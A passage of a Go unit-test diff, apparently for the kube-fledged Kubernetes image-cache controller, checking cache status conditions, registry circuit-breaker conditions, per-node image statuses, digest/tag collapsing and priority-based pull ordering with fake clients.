+					WorkType: images.ImageCacheCreate,
+					Node:     &node,
+				},
+			},
+		}
+	}
+	tests := []struct {
+		name                     string
+		reason                   string
+		conditions               []kubefledgedv1alpha1.ImageCacheCondition
+		skippedNodes             []kubefledgedv1alpha1.NodeReasonMessage
+		wqKey                    images.WorkQueueKey
+		expectedStatus           corev1.ConditionStatus
+		expectTransitionTimeKept bool
+		expectedActionStatus     kubefledgedv1alpha1.ImageCacheActionStatus
+		expectedMessage          string
+	}{
+		{
+			name:           "#1: Create - Images not yet cached",
+			wqKey:          images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate},
+			expectedStatus: corev1.ConditionFalse,
+		},
+		{
+			name:                     "#2: Refresh - Images remain cached",
+			conditions:               []kubefledgedv1alpha1.ImageCacheCondition{cachedCondition},
+			wqKey:                    images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheRefresh},
+			expectedStatus:           corev1.ConditionTrue,
+			expectTransitionTimeKept: true,
+		},
+		{
+			name:           "#3: StatusUpdate - All images cached",
+			reason:         kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+			wqKey:          images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: results(images.ImageWorkResultStatusSucceeded)},
+			expectedStatus: corev1.ConditionTrue,
+		},
+		{
+			name:                     "#4: StatusUpdate - Images still cached after refresh",
+			reason:                   kubefledgedv1alpha1.ImageCacheReasonImageCacheRefresh,
+			conditions:               []kubefledgedv1alpha1.ImageCacheCondition{cachedCondition},
+			wqKey:                    images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: results(images.ImageWorkResultStatusAlreadyPulled)},
+			expectedStatus:           corev1.ConditionTrue,
+			expectTransitionTimeKept: true,
+		},
+		{
+			name:           "#5: StatusUpdate - Image pull failed",
+			reason:         kubefledgedv1alpha1.ImageCacheReasonImageCacheRefresh,
+			conditions:     []kubefledgedv1alpha1.ImageCacheCondition{cachedCondition},
+			wqKey:          images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: results(images.ImageWorkResultStatusFailed)},
+			expectedStatus: corev1.ConditionFalse,
+		},
+		{
+			name:           "#6: StatusUpdate - Images purged",
+			reason:         kubefledgedv1alpha1.ImageCacheReasonImageCachePurge,
+			conditions:     []kubefledgedv1alpha1.ImageCacheCondition{cachedCondition},
+			wqKey:          images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: results(images.ImageWorkResultStatusSucceeded)},
+			expectedStatus: corev1.ConditionFalse,
+		},
+		{
+			name:       "#7: StatusUpdate - Images older than max age purged during refresh",
+			reason:     kubefledgedv1alpha1.ImageCacheReasonImageCacheRefresh,
+			conditions: []kubefledgedv1alpha1.ImageCacheCondition{cachedCondition},
+			wqKey: images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: &map[string]images.ImageWorkResult{
+				"job1": {
+					Status:           images.ImageWorkResultStatusSucceeded,
+					ImageWorkRequest: images.ImageWorkRequest{Image: "foo", WorkType: images.ImageCachePurge, Node: &node, Expired: true},
+				},
+			}},
+			expectedStatus: corev1.ConditionFalse,
+		},
+		{
+			name:           "#8: StatusUpdate - Images not cached in skipped nodes",
+			reason:         kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+			skippedNodes:   []kubefledgedv1alpha1.NodeReasonMessage{{Node: "cordoned", Reason: kubefledgedv1alpha1.ImageCacheReasonNodeUnschedulable}},
+			wqKey:          images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: results(images.ImageWorkResultStatusSucceeded)},
+			expectedStatus: corev1.ConditionFalse,
+		},
+		{
+			name:   "#9: StatusUpdate - Optional image pull failed",
+			reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+			wqKey: images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: &map[string]images.ImageWorkResult{
+				"job1": {
+					Status:           images.ImageWorkResultStatusSucceeded,
+					ImageWorkRequest: images.ImageWorkRequest{Image: "foo", WorkType: images.ImageCacheCreate, Node: &node},
+				},
+				"job2": {
+					Status:           images.ImageWorkResultStatusFailed,
+					ImageWorkRequest: images.ImageWorkRequest{Image: "bar", WorkType: images.ImageCacheCreate, Node: &node, Optional: true},
+				},
+			}},
+			expectedStatus:       corev1.ConditionFalse,
+			expectedActionStatus: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+		},
+		{
+			name:   "#10: StatusUpdate - Required and optional image pulls failed",
+			reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+			wqKey: images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: &map[string]images.ImageWorkResult{
+				"job1": {
+					Status:           images.ImageWorkResultStatusFailed,
+					ImageWorkRequest: images.ImageWorkRequest{Image: "foo", WorkType: images.ImageCacheCreate, Node: &node},
+				},
+				"job2": {
+					Status:           images.ImageWorkResultStatusFailed,
+					ImageWorkRequest: images.ImageWorkRequest{Image: "bar", WorkType: images.ImageCacheCreate, Node: &node, Optional: true},
+				},
+			}},
+			expectedStatus:       corev1.ConditionFalse,
+			expectedActionStatus: kubefledgedv1alpha1.ImageCacheActionStatusFailed,
+		},
+		{
+			name:   "#11: StatusUpdate - Reconcile timed out",
+			reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+			wqKey: images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: &map[string]images.ImageWorkResult{
+				"job1": {
+					Status:           images.ImageWorkResultStatusFailed,
+					Reason:           images.ImageWorkResultReasonReconcileTimeout,
+					ImageWorkRequest: images.ImageWorkRequest{Image: "foo", WorkType: images.ImageCacheCreate, Node: &node},
+				},
+			}},
+			expectedStatus:       corev1.ConditionFalse,
+			expectedActionStatus: kubefledgedv1alpha1.ImageCacheActionStatusFailed,
+			expectedMessage:      kubefledgedv1alpha1.ImageCacheMessageReconcileTimeout,
+		},
+		{
+			name:       "#12: StatusUpdate - Image no longer used by pods purged during refresh",
+			reason:     kubefledgedv1alpha1.ImageCacheReasonImageCacheRefresh,
+			conditions: []kubefledgedv1alpha1.ImageCacheCondition{cachedCondition},
+			wqKey: images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: &map[string]images.ImageWorkResult{
+				"job1": {
+					Status:           images.ImageWorkResultStatusAlreadyPulled,
+					ImageWorkRequest: images.ImageWorkRequest{Image: "foo", WorkType: images.ImageCacheCreate, Node: &node},
+				},
+				"job2": {
+					Status:           images.ImageWorkResultStatusSucceeded,
+					ImageWorkRequest: images.ImageWorkRequest{Image: "bar", WorkType: images.ImageCachePurge, Node: &node},
+				},
+			}},
+			expectedStatus:           corev1.ConditionTrue,
+			expectTransitionTimeKept: true,
+		},
+	}
+	for _, test := range tests {
+		imageCache := kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: "kube-fledged",
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+					{
+						Images: []string{"foo"},
+					},
+				},
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status:       kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+				Reason:       test.reason,
+				Conditions:   test.conditions,
+				SkippedNodes: test.skippedNodes,
+			},
+		}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		if err := controller.syncHandler(test.wqKey); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		if len(updates) == 0 {
+			t.Errorf("Test: %s failed: image cache status not updated", test.name)
+			continue
+		}
+		if expected := imageCacheCoverage(updates[0].Status.Images); !reflect.DeepEqual(updates[0].Status.Coverage, expected) {
+			t.Errorf("Test: %s failed: expected coverage %+v, actual %+v", test.name, expected, updates[0].Status.Coverage)
+		}
+		conditions := conditionsOfType(updates[0].Status.Conditions, kubefledgedv1alpha1.ImageCacheConditionAllImagesCached)
+		if len(conditions) != 1 {
+			t.Errorf("Test: %s failed: expected AllImagesCached condition, actual %+v", test.name, updates[0].Status.Conditions)
+			continue
+		}
+		if conditions[0].Status != test.expectedStatus {
+			t.Errorf("Test: %s failed: expected status %s, actual %s", test.name, test.expectedStatus, conditions[0].Status)
+		}
+		if conditions[0].LastTransitionTime.Equal(&lastTransitionTime) != test.expectTransitionTimeKept {
+			t.Errorf("Test: %s failed: expectTransitionTimeKept=%t, actual %s", test.name, test.expectTransitionTimeKept, conditions[0].LastTransitionTime)
+		}
+		if test.expectedActionStatus != "" && updates[0].Status.Status != test.expectedActionStatus {
+			t.Errorf("Test: %s failed: expected image cache status %s, actual %s", test.name, test.expectedActionStatus, updates[0].Status.Status)
+		}
+		if test.expectedMessage != "" && updates[0].Status.Message != test.expectedMessage {
+			t.Errorf("Test: %s failed: expected message %q, actual %q", test.name, test.expectedMessage, updates[0].Status.Message)
+		}
+	}
+}
+
+func TestRegistryCircuitOpenCondition(t *testing.T) {
+	openCondition := kubefledgedv1alpha1.ImageCacheCondition{
+		Type:   kubefledgedv1alpha1.ImageCacheConditionRegistryCircuitOpen,
+		Status: corev1.ConditionTrue,
+	}
+	tests := []struct {
+		name            string
+		conditions      []kubefledgedv1alpha1.ImageCacheCondition
+		result          images.ImageWorkResult
+		expectCondition bool
+		expectedStatus  corev1.ConditionStatus
+		expectedMessage string
+	}{
+		{
+			name: "#1: Pull failed since registry circuit is open",
+			result: images.ImageWorkResult{
+				Status:           images.ImageWorkResultStatusFailed,
+				Reason:           images.ImageWorkResultReasonRegistryCircuitOpen,
+				ImageWorkRequest: images.ImageWorkRequest{Image: "quay.io/foo", WorkType: images.ImageCacheCreate, Node: &node},
+			},
+			expectCondition: true,
+			expectedStatus:  corev1.ConditionTrue,
+			expectedMessage: kubefledgedv1alpha1.ImageCacheMessageRegistryCircuitOpen + "quay.io",
+		},
+		{
+			name:       "#2: Pull succeeded after registry circuit closed",
+			conditions: []kubefledgedv1alpha1.ImageCacheCondition{openCondition},
+			result: images.ImageWorkResult{
+				Status:           images.ImageWorkResultStatusSucceeded,
+				ImageWorkRequest: images.ImageWorkRequest{Image: "quay.io/foo", WorkType: images.ImageCacheCreate, Node: &node},
+			},
+			expectCondition: true,
+			expectedStatus:  corev1.ConditionFalse,
+			expectedMessage: kubefledgedv1alpha1.ImageCacheMessageRegistriesAvailable,
+		},
+		{
+			name: "#3: Pull failed with other reason",
+			result: images.ImageWorkResult{
+				Status:           images.ImageWorkResultStatusFailed,
+				ImageWorkRequest: images.ImageWorkRequest{Image: "quay.io/foo", WorkType: images.ImageCacheCreate, Node: &node},
+			},
+		},
+	}
+	for _, test := range tests {
+		imageCache := kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: "kube-fledged",
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+					{
+						Images: []string{"quay.io/foo"},
+					},
+				},
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status:     kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+				Reason:     kubefledgedv1alpha1.ImageCacheReasonImageCacheRefresh,
+				Conditions: test.conditions,
+			},
+		}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		wqKey := images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate,
+			Status: &map[string]images.ImageWorkResult{"job1": test.result}}
+		if err := controller.syncHandler(wqKey); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		if len(updates) == 0 {
+			t.Errorf("Test: %s failed: image cache status not updated", test.name)
+			continue
+		}
+		conditions := conditionsOfType(updates[0].Status.Conditions, kubefledgedv1alpha1.ImageCacheConditionRegistryCircuitOpen)
+		if !test.expectCondition {
+			if len(conditions) != 0 {
+				t.Errorf("Test: %s failed: expected no RegistryCircuitOpen condition, actual %+v", test.name, conditions)
+			}
+			continue
+		}
+		if len(conditions) != 1 {
+			t.Errorf("Test: %s failed: expected RegistryCircuitOpen condition, actual %+v", test.name, updates[0].Status.Conditions)
+			continue
+		}
+		if conditions[0].Status != test.expectedStatus || conditions[0].Message != test.expectedMessage {
+			t.Errorf("Test: %s failed: expected %s %q, actual %s %q", test.name, test.expectedStatus, test.expectedMessage, conditions[0].Status, conditions[0].Message)
+		}
+	}
+}
+
+// conditionsOfType returns the conditions of the given type
+func conditionsOfType(conditions []kubefledgedv1alpha1.ImageCacheCondition, conditionType kubefledgedv1alpha1.ImageCacheConditionType) []kubefledgedv1alpha1.ImageCacheCondition {
+	var matched []kubefledgedv1alpha1.ImageCacheCondition
+	for _, condition := range conditions {
+		if condition.Type == conditionType {
+			matched = append(matched, condition)
+		}
+	}
+	return matched
+}
+
+func TestSetReconcileConditions(t *testing.T) {
+	tests := []struct {
+		name     string
+		status   kubefledgedv1alpha1.ImageCacheStatus
+		expected map[kubefledgedv1alpha1.ImageCacheConditionType]corev1.ConditionStatus
+	}{
+		{
+			name: "#1: Processing before jobs are created",
+			status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+				Reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+			},
+			expected: map[kubefledgedv1alpha1.ImageCacheConditionType]corev1.ConditionStatus{
+				kubefledgedv1alpha1.ImageCacheConditionValidated:   corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionJobsCreated: corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionPulling:     corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionCompleted:   corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionFailed:      corev1.ConditionFalse,
+			},
+		},
+		{
+			name: "#2: Processing with queued images",
+			status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+				Reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+				Images: []kubefledgedv1alpha1.ImageNodeStatus{{Image: "foo", Node: "fakenode", Phase: kubefledgedv1alpha1.ImagePhaseQueued}},
+			},
+			expected: map[kubefledgedv1alpha1.ImageCacheConditionType]corev1.ConditionStatus{
+				kubefledgedv1alpha1.ImageCacheConditionValidated:   corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionJobsCreated: corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionPulling:     corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionCompleted:   corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionFailed:      corev1.ConditionFalse,
+			},
+		},
+		{
+			name: "#3: Succeeded",
+			status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+				Reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+				Images: []kubefledgedv1alpha1.ImageNodeStatus{{Image: "foo", Node: "fakenode", Phase: kubefledgedv1alpha1.ImagePhaseCached}},
+			},
+			expected: map[kubefledgedv1alpha1.ImageCacheConditionType]corev1.ConditionStatus{
+				kubefledgedv1alpha1.ImageCacheConditionValidated:   corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionJobsCreated: corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionPulling:     corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionCompleted:   corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionFailed:      corev1.ConditionFalse,
+			},
+		},
+		{
+			name: "#4: Validation failed",
+			status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status: kubefledgedv1alpha1.ImageCacheActionStatusFailed,
+				Reason: kubefledgedv1alpha1.ImageCacheReasonImagePullSecretNotFound,
+			},
+			expected: map[kubefledgedv1alpha1.ImageCacheConditionType]corev1.ConditionStatus{
+				kubefledgedv1alpha1.ImageCacheConditionValidated:   corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionJobsCreated: corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionPulling:     corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionCompleted:   corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionFailed:      corev1.ConditionTrue,
+			},
+		},
+		{
+			name: "#5: Aborted",
+			status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status: kubefledgedv1alpha1.ImageCacheActionStatusAborted,
+				Reason: kubefledgedv1alpha1.ImageCacheReasonImagePullAborted,
+			},
+			expected: map[kubefledgedv1alpha1.ImageCacheConditionType]corev1.ConditionStatus{
+				kubefledgedv1alpha1.ImageCacheConditionValidated:   corev1.ConditionTrue,
+				kubefledgedv1alpha1.ImageCacheConditionJobsCreated: corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionPulling:     corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionCompleted:   corev1.ConditionFalse,
+				kubefledgedv1alpha1.ImageCacheConditionFailed:      corev1.ConditionTrue,
+			},
+		},
+	}
+	for _, test := range tests {
+		setReconcileConditions(&test.status)
+		if len(test.status.Conditions) != len(test.expected) {
+			t.Errorf("Test: %s failed: expected %d conditions, actual %+v", test.name, len(test.expected), test.status.Conditions)
+			continue
+		}
+		for _, condition := range test.status.Conditions {
+			if expected := test.expected[condition.Type]; condition.Status != expected {
+				t.Errorf("Test: %s failed: expected condition %s %s, actual %s", test.name, condition.Type, expected, condition.Status)
+			}
+		}
+	}
+}
+
+func TestImageNodeStatuses(t *testing.T) {
+	node2 := corev1.Node{
+		ObjectMeta: metav1.ObjectMeta{
+			Labels: map[string]string{"kubernetes.io/hostname": "baz"},
+		},
+	}
+	jobCreationTime := time.Date(2020, time.March, 1, 0, 0, 0, 0, time.UTC)
+	iwstatus := map[string]images.ImageWorkResult{
+		"job1": {
+			Status:           images.ImageWorkResultStatusSucceeded,
+			ImageWorkRequest: images.ImageWorkRequest{Image: "foo", Node: &node2, WorkType: images.ImageCacheCreate, Aliases: &[]string{"foo@sha256:aaa"}},
+			Digest:           "sha256:aaa",
+			JobName:          "job1",
+			PodName:          "job1-abcde",
+			JobCreationTime:  jobCreationTime,
+			CompletionTime:   jobCreationTime.Add(90 * time.Second),
+		},
+		"job2": {
+			Status:           images.ImageWorkResultStatusFailed,
+			Reason:           "ErrImagePull",
+			Message:          "manifest unknown",
+			FailureCategory:  kubefledgedv1alpha1.FailureCategoryNotFound,
+			ImageWorkRequest: images.ImageWorkRequest{Image: "foo", Node: &node, WorkType: images.ImageCacheCreate},
+			JobName:          "job2",
+			PodName:          "job2-fghij",
+		},
+		"fakejob-1": {
+			Status:           images.ImageWorkResultStatusAlreadyPulled,
+			Reason:           images.ImageWorkResultReasonImageInUse,
+			Message:          "Image is in use by pod kube-system/bar-abcde in the node",
+			ImageWorkRequest: images.ImageWorkRequest{Image: "bar", Node: &node, WorkType: images.ImageCacheRefresh},
+		},
+		"job3": {
+			Status:           images.ImageWorkResultStatusSucceeded,
+			ImageWorkRequest: images.ImageWorkRequest{Image: "qux", Node: &node, WorkType: images.ImageCachePurge},
+			JobCreationTime:  jobCreationTime,
+			CompletionTime:   jobCreationTime.Add(time.Second),
+		},
+		"job4": {
+			Status:           images.ImageWorkResultStatusJobCreated,
+			ImageWorkRequest: images.ImageWorkRequest{Image: "qux", Node: &node2, WorkType: images.ImageCacheCreate},
+			JobName:          "job4",
+		},
+	}
+	cachedTime := metav1.NewTime(time.Date(2020, time.February, 1, 0, 0, 0, 0, time.UTC))
+	now := metav1.NewTime(time.Date(2020, time.March, 1, 0, 0, 0, 0, time.UTC))
+	previous := []kubefledgedv1alpha1.ImageNodeStatus{
+		{Image: "bar", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued, CachedTime: &cachedTime},
+		{Image: "qux", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued, CachedTime: &cachedTime},
+	}
+	expected := []kubefledgedv1alpha1.ImageNodeStatus{
+		{Image: "bar", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached, CachedTime: &cachedTime, Reason: images.ImageWorkResultReasonImageInUse,
+			Message: "Image is in use by pod kube-system/bar-abcde in the node"},
+		{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseFailed, Reason: "ErrImagePull", Message: "manifest unknown",
+			FailureCategory: kubefledgedv1alpha1.FailureCategoryNotFound, Job: "job2", Pod: "job2-fghij"},
+		{Image: "foo", Node: "baz", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: "sha256:aaa", CachedTime: &now, Pulled: true, Job: "job1", Pod: "job1-abcde",
+			PullDuration: &metav1.Duration{Duration: 90 * time.Second}},
+		{Image: "foo@sha256:aaa", Node: "baz", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: "sha256:aaa", CachedTime: &now, Pulled: true, Job: "job1", Pod: "job1-abcde",
+			PullDuration: &metav1.Duration{Duration: 90 * time.Second}},
+		{Image: "qux", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseDeleted},
+		{Image: "qux", Node: "baz", Phase: kubefledgedv1alpha1.ImagePhaseQueued, Job: "job4"},
+	}
+	if actual := imageNodeStatuses(iwstatus, previous, now); !reflect.DeepEqual(actual, expected) {
+		t.Errorf("Test failed: expected %+v, actual %+v", expected, actual)
+	}
+}
+
+func TestCollapseImageIdentities(t *testing.T) {
+	digest := "sha256:" + strings.Repeat("a", 64)
+	otherDigest := "sha256:" + strings.Repeat("b", 64)
+	cachedTime := metav1.NewTime(time.Date(2020, time.February, 1, 0, 0, 0, 0, time.UTC))
+	tests := []struct {
+		name     string
+		statuses []kubefledgedv1alpha1.ImageNodeStatus
+		expected []kubefledgedv1alpha1.ImageNodeStatus
+	}{
+		{
+			name: "#1: Image referenced by tag and by digest collapsed into the tagged image",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "nginx@" + digest, Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest, CachedTime: &cachedTime, Job: "job1"},
+				{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest, CachedTime: &cachedTime, Job: "job2"},
+			},
+			expected: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest, CachedTime: &cachedTime, Job: "job2",
+					Aliases: []string{"nginx@" + digest}},
+			},
+		},
+		{
+			name: "#2: Collapsed status reports the worst phase",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "docker.io/library/nginx@" + digest, Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseFailed, Reason: "ErrImagePull", Job: "job1"},
+				{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest, Job: "job2"},
+			},
+			expected: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseFailed, Reason: "ErrImagePull", Digest: digest, Job: "job1",
+					Aliases: []string{"docker.io/library/nginx@" + digest}},
+			},
+		},
+		{
+			name: "#3: Images of different digests, repositories or nodes, or with unknown digests, are not collapsed",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest},
+				{Image: "nginx:1.20", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: otherDigest},
+				{Image: "myrepo/nginx@" + digest, Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest},
+				{Image: "nginx@" + digest, Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest},
+				{Image: "nginx:1.19", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+			},
+			expected: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "myrepo/nginx@" + digest, Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest},
+				{Image: "nginx:1.19", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+				{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest},
+				{Image: "nginx:1.20", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: otherDigest},
+				{Image: "nginx@" + digest, Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest},
+			},
+		},
+	}
+	for _, test := range tests {
+		if actual := collapseImageIdentities(test.statuses); !reflect.DeepEqual(actual, test.expected) {
+			t.Errorf("Test: %s failed: expected %+v, actual %+v", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestMergeImageNodeStatuses(t *testing.T) {
+	digest := "sha256:" + strings.Repeat("a", 64)
+	statuses := []kubefledgedv1alpha1.ImageNodeStatus{
+		{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest, Aliases: []string{"nginx@" + digest}},
+		{Image: "redis", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+	}
+	// The image referenced by tag is purged, while the image referenced by digest remains cached
+	updated := []kubefledgedv1alpha1.ImageNodeStatus{
+		{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+		{Image: "redis", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+	}
+	expected := []kubefledgedv1alpha1.ImageNodeStatus{
+		{Image: "nginx:1.19", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+		{Image: "nginx@" + digest, Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached, Digest: digest},
+		{Image: "redis", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+		{Image: "redis", Node: "foo", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+	}
+	if actual := mergeImageNodeStatuses(statuses, updated); !reflect.DeepEqual(actual, expected) {
+		t.Errorf("Test failed: expected %+v, actual %+v", expected, actual)
+	}
+	if cachedImages := statusImages(statuses[0]); !reflect.DeepEqual(cachedImages, []string{"nginx:1.19", "nginx@" + digest}) {
+		t.Errorf("Test failed: expected images of status %v, actual %v", statuses[0], cachedImages)
+	}
+}
+
+func TestImageListOrder(t *testing.T) {
+	tests := []struct {
+		name       string
+		priorities []int32
+		expected   []int
+	}{
+		{
+			name:       "#1: No priorities - Spec order",
+			priorities: []int32{0, 0, 0},
+			expected:   []int{0, 1, 2},
+		},
+		{
+			name:       "#2: Higher priority first, ties in spec order",
+			priorities: []int32{0, 10, 0, 10},
+			expected:   []int{1, 3, 0, 2},
+		},
+		{
+			name:       "#3: Negative priority last",
+			priorities: []int32{-1, 0, 5},
+			expected:   []int{2, 1, 0},
+		},
+	}
+	for _, test := range tests {
+		cacheSpec := make([]kubefledgedv1alpha1.CacheSpecImages, len(test.priorities))
+		for k, priority := range test.priorities {
+			cacheSpec[k].Priority = priority
+		}
+		if actual := imageListOrder(cacheSpec); !reflect.DeepEqual(actual, test.expected) {
+			t.Errorf("Test: %s failed: expected %v, actual %v", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestImageWorkEnqueueOrder(t *testing.T) {
+	imageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "foo",
+			Namespace: "kube-fledged",
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{Images: []string{"app:1.0"}},
+				{Images: []string{"base:1.0", "base-debug:1.0"}, Priority: 10},
